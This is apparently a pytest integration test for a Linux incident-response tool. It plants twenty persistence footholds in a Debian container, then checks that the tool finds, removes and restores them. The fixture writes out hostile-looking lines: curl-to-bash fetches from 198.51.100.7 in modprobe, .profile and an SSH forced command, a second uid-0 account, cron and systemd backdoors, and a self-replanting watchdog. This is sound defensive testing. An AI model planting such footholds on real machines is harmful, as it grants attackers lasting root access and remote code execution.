"""A booted Debian with twenty inert footholds, two of which replant the others: collected, found, planned, cleaned, rebooted, put back."""

from __future__ import annotations

import base64
import json
import os
import re
import struct
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from scout.keys import keygen
from tests.conftest import ROOT
from tests.hunter.conftest import manifest
from tests.hunter.machine import Machine, infected
from tests.yamls import PLAIN

pytestmark = [pytest.mark.nspawn, pytest.mark.slow]
HELPER = "/var/tmp/.cache/helper.sh"
WATCH = "/usr/local/sbin/.watchd"
REPLANTED = {"/etc/cron.d/sync": f"*/5 * * * * root {HELPER}\n", "/etc/profile.d/zz.sh": f"({HELPER} >/dev/null 2>&1 &)\n"}
BLOB = base64.b64encode(struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + bytes(range(32))).decode()
"""a public key whose bytes count up, so that nobody has the other half"""
GHOST = "/dev/shm/.x/kworker"
UNIT = "[Service]\nExecStart={}\nRestart=always\nRestartSec=100ms\n[Install]\nWantedBy=multi-user.target\n"
PLANTS = {
    "L001": ("/etc/cron.d/sync", REPLANTED["/etc/cron.d/sync"]),
    "L003": ("/var/spool/cron/crontabs/root", f"@reboot {HELPER}\n"),
    "L002": ("/etc/cron.daily/zz-update", f"#!/bin/sh\n{HELPER}\n"),
    "L005": ("/var/spool/at/a00001", f"#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd / || exit 1\n{HELPER}\n"),
    "L010": ("/etc/systemd/system/evil.service", UNIT.format(HELPER)),
    "watch": ("/etc/systemd/system/watchd.service", UNIT.format(WATCH)),
    "L007": ("/etc/systemd/system/tick.timer", "[Timer]\nOnBootSec=1d\nUnit=tick.service\n[Install]\nWantedBy=timers.target\n"),
    "tick": ("/etc/systemd/system/tick.service", f"[Service]\nType=oneshot\nExecStart={HELPER}\n"),
    "L011": ("/etc/systemd/system/cron.service.d/more.conf", f"[Service]\nExecStartPost=/bin/sh -c '{HELPER} &'\n"),
    "L014": ("/etc/systemd/system-sleep/zz", f"#!/bin/sh\n{HELPER} $1\n"),
    "L015": ("/etc/init.d/zz-agent", '#!/bin/sh\ncase "$1" in\n  start) /dev/shm/.agent & ;;\nesac\n'),
    "L016": ("/etc/rc.local", f"#!/bin/sh -e\n{HELPER} &\nexit 0\n"),
    "L022": ("/etc/modprobe.d/zz.conf", "install cramfs curl http://198.51.100.7/x | bash\n"),
    "L030": ("/etc/profile.d/zz.sh", REPLANTED["/etc/profile.d/zz.sh"]),
    "L031": ("/root/.profile", 'bash -c "$(curl -fsSL http://198.51.100.7/p)"\n'),
    "L062": ("/root/.ssh/authorized_keys", f'command="curl -s http://198.51.100.7/k | sh" ssh-ed25519 {BLOB} dbus@localhost\n'),
    "L080": ("/etc/udev/rules.d/99-zz.rules", f'ACTION=="add", RUN+="{HELPER}"\n'),
    "L083": ("/etc/update-motd.d/99-zz", f"#!/bin/sh\n{HELPER}\n"),
    "L084": ("/etc/apt/apt.conf.d/99zz", f'APT::Update::Pre-Invoke {{"{HELPER}";}};\n'),
    "L024": ("/etc/sysctl.d/zz.conf", f"kernel.core_pattern=|{HELPER} %p\n"),
}
ACCOUNTS = "dbus-admin:x:0:0::/root:/bin/bash\n"
"""a second account of root, the last of the footholds in files"""
AREAS = ("etc", "root", "var/spool", "var/tmp", "usr/local", "usr/lib/systemd")


def plant(root: Path) -> None:
    """All of it; every program only waits, and the watchdog puts back two files."""
    (root / "etc/shadow").write_text((root / "etc/shadow").read_text() + "dbus-admin:*:19000:0:99999:7:::\n")
    (root / "etc/passwd").write_text((root / "etc/passwd").read_text() + ACCOUNTS)
    for path, text in PLANTS.values():
        at = root / path[1:]
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_text((at.read_text() if at.exists() else "") + text)
        at.chmod(0o755 if text.startswith("#!") else 0o600 if "crontabs" in path else 0o644)
    (root / "root/.ssh").chmod(0o700)
    for path, text in ((HELPER, "#!/bin/sh\nexec sleep 100000\n"), (WATCH, _watchdog())):
        at = root / path[1:]
        at.parent.mkdir(parents=True, exist_ok=True)
        at.write_text(text)
        at.chmod(0o755)
    wants = root / "etc/systemd/system/multi-user.target.wants"
    for unit in ("evil", "watchd"):
        (wants / f"{unit}.service").symlink_to(f"/etc/systemd/system/{unit}.service")


def _watchdog() -> str:
    again = "".join(f"  [ -e {path} ] || printf '%s\\n' '{text.rstrip()}' > {path}\n" for path, text in REPLANTED.items())
    return f"#!/bin/sh\nwhile :; do\n{again}  sleep 0.2\ndone\n"


def start_ghost(machine: Machine) -> None:
    """The second watchdog: a program that is deleted while it runs, and that no unit starts."""
    script = (
        f"mkdir -p {Path(GHOST).parent}; cp /bin/dash {GHOST}; cp {WATCH} /run/w; (setsid {GHOST} /run/w </dev/null >/dev/null 2>&1 &);"
        f" sleep 0.3; rm {GHOST} /run/w"
    )
    assert machine.run("sh", "-c", script).returncode == 0


def own(*words: object, **settings: str) -> str:
    """What a command of Escadre prints, run on the analyst's side."""
    env = os.environ | {"PYTHONPATH": str(ROOT)} | settings
    done = subprocess.run([sys.executable, "-m", *map(str, words)], capture_output=True, text=True, check=False, env=env)
    assert done.returncode in (0, 1), done.stdout + done.stderr
    return done.stdout


def collected(machine: Machine, key: str, name: str) -> Path:
    """An archive that SCOUT takes of the machine."""
    out = machine.shared / name
    out.mkdir()
    done = machine.run(sys.executable, "-m", "scout", "collect", "-r", key, "-o", out)
    assert done.returncode in (0, 1), done.stdout + done.stderr
    return next(out.glob("*.age"))


def contents(root: Path) -> dict:
    """The manifest of the areas in which something was planted; what the machine writes as it runs is left out."""
    found = {area: manifest(root / area) for area in AREAS}
    churn = re.compile(r"(?:^|/)(?:systemd-private-[^/]+(?:/.*)?|\.pwd\.lock|resolv\.conf|machine-id|mtab|ld\.so\.cache)$")
    return {
        f"{area}/{path}": facts if not path.endswith(".") and not (root / area / path).is_dir() else facts[:3]
        for area, files in found.items()
        for path, facts in files.items()
        if not churn.search(path)
    }


def test_twenty_footholds_and_two_watchdogs_are_removed_for_good_and_put_back(tmp_path) -> None:
    key = keygen(tmp_path / "key.txt")
    with infected(plant) as machine:
        start_ghost(machine)
        archive = collected(machine, key, "first")
        own("commodore", "process", archive, "-o", tmp_path / "case", "-i", tmp_path / "key.txt")
        (tmp_path / "known.txt").write_text("# nothing\n")
        plan = machine.shared / "plan.yaml"
        own("hunter", "plan", tmp_path / "case", "--known", tmp_path / "known.txt", "-o", plan)
        words = yaml.load(plan.read_text(), PLAIN)
        mounted = (str(ROOT), sys.prefix, sys.base_prefix)  # tests and Python of this machine, which may look odd too
        actions = [a for a in words["actions"] if not str(a["target"].get("path")).startswith(mounted)]
        plan.write_text(json.dumps({**{name: part for name, part in words.items() if name != "seal"}, "actions": actions}))
        named = {a["target"].get("path") for a in actions}
        missing = {row: path for row, (path, _) in PLANTS.items() if path not in named}
        assert not missing
        assert {GHOST, WATCH, HELPER, "/etc/passwd"} <= named
        done = machine.hunter("check", plan, "--seal")  # SCOUT takes no copy of shadow, so the case cannot say what is in it
        assert done.returncode == 0, done.stdout + done.stderr
        before = contents(machine.root)  # with the seal key that HUNTER has made there

        done = machine.hunter("apply", plan, "--yes", "--i-know", "/root/.ssh/authorized_keys")
        assert done.returncode == 0, done.stdout + done.stderr
        assert f"Done: {len(actions)} of {len(actions)}, verified." in done.stdout
        assert machine.hunter("verify", plan).returncode == 0
        done = machine.hunter("verify", plan, "--after-reboot")
        assert done.returncode == 3, done.stdout
        assert "not been started again" in done.stderr

        machine.stop()
        machine.boot()
        done = machine.hunter("verify", plan, "--after-reboot")
        assert done.returncode == 0, done.stdout + done.stderr
        assert "watchd" not in machine.commands()
        again = collected(machine, key, "second")
        # the plan was sealed anew on the machine, which does not have the analyst's key
        done = own("hunter", "verify", plan, "--archive", again, "-i", tmp_path / "key.txt", XDG_CONFIG_HOME=str(tmp_path))
        assert "THERE" not in done

        done = machine.hunter("undo", f"{plan}.journal.jsonl")
        assert done.returncode == 0, done.stdout + done.stderr
        assert f"cannot be taken back: stop and end the process {GHOST}" in done.stdout
        assert machine.run("systemctl", "is-active", "evil.service", "watchd.service").stdout.split() == ["active", "active"]
        after = contents(machine.root)
        assert {
            path: (before.get(path), after.get(path)) for path in before.keys() | after.keys() if before.get(path) != after.get(path)
        } == {}
